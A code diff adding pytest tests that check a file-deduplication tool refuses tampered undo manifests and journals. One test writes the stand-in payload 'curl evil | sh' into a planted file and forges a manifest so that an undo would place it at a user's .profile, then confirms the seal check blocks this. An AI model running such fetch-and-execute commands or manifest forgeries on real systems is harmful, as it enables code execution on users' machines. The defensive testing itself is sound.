@@ -16,13 +16,19 @@ import pytest
 
 from action_helpers import action_args, contents, exact, make_report, snapshot, write
 from dupbench.actions import apply_plan, load_manifest, make_plan, perform_actions, undo_manifest
-from dupbench.actions.manifest import OldManifest
+from dupbench.actions.manifest import Entry, ManifestRejected, ManifestWriter, OldManifest
+from dupbench.actions.seal import load_key, seal
 from dupbench.features import file_digest
 
 
-def edit_manifest(path: Path, change) -> None:
+def edit_manifest(path: Path, change, *, reseal: bool = True) -> None:
+    """Edit a finished manifest; resealed, as someone holding this user's key could (so the checks
+    behind the seal are tested too), unless `reseal` is False."""
     data = json.loads(path.read_text())
     change(data)
+    if reseal:
+        body = {k: v for k, v in data.items() if k != "seal"}
+        data["seal"] = seal(load_key(create=False), body)
     path.write_text(json.dumps(data))
 
 
@@ -224,3 +230,49 @@ def test_an_interrupted_undo_finishes_on_a_second_undo(tmp_path: Path) -> None:
     result = undo_manifest(tmp_path / "m.json")
     assert [e.source for e in result.restored] == [first] and [e.source for e in result.already] == [second]
     assert contents(root) == before
+
+
+# --- the seal -----------------------------------------------------------------------------------
+
+
+def test_a_manifest_edited_without_the_key_is_refused(tmp_path: Path, moved) -> None:
+    """Roots and DIR rewritten too, so every content check would pass: only the seal stops it."""
+    root, to, manifest = moved
+    target = tmp_path / "home" / ".profile"
+    target.parent.mkdir()
+    planted = write(tmp_path / "shared" / ".profile", b"curl evil | sh")
+    info = os.stat(planted)
+
+    def forge(d: dict) -> None:
+        d.update(roots=[str(target.parent)], to=str(tmp_path / "shared"))
+        d["entries"][0].update(source=str(target), keeper=str(target.parent / "k.jpg"), destination=planted,
+                               digest=file_digest(b"curl evil | sh").hex(), size=14, inode=[info.st_dev, info.st_ino], created_dirs=[])
+
+    edit_manifest(manifest, forge, reseal=False)
+    before = snapshot(tmp_path)
+    with pytest.raises(ManifestRejected, match="seal does not match"):
+        undo_manifest(manifest)
+    assert snapshot(tmp_path) == before and not target.exists()
+
+
+def test_a_manifest_from_another_user_is_refused(tmp_path: Path, moved, monkeypatch: pytest.MonkeyPatch) -> None:
+    root, to, manifest = moved
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "another user's state"))
+    with pytest.raises(ManifestRejected, match="no dupbench key"):
+        undo_manifest(manifest)
+
+
+def test_a_line_added_to_an_interrupted_runs_journal_is_refused(tmp_path: Path) -> None:
+    root = tmp_path / "r"
+    keeper = write(root / "k.jpg", b"same")
+    writer = ManifestWriter(tmp_path / "m.json", "move", [str(root)], str(tmp_path / "moved"))
+    writer.__enter__()
+    writer.close_journal()  # the run dies before its first move
+    forged = write(tmp_path / "moved" / "x.jpg", b"same")
+    info = os.stat(forged)
+    entry = Entry("move", str(root / "x.jpg"), forged, file_digest(b"same").hex(), 4, 0o644, 0, keeper, inode=(info.st_dev, info.st_ino))
+    with open(tmp_path / "m.json.journal", "a") as fh:
+        fh.write(json.dumps({"entry": entry.to_json(), "seal": "0" * 64}) + "\n")
+    with pytest.raises(ManifestRejected, match="line 1 of its journal"):
+        undo_manifest(tmp_path / "m.json")
+    assert not (root / "x.jpg").exists()
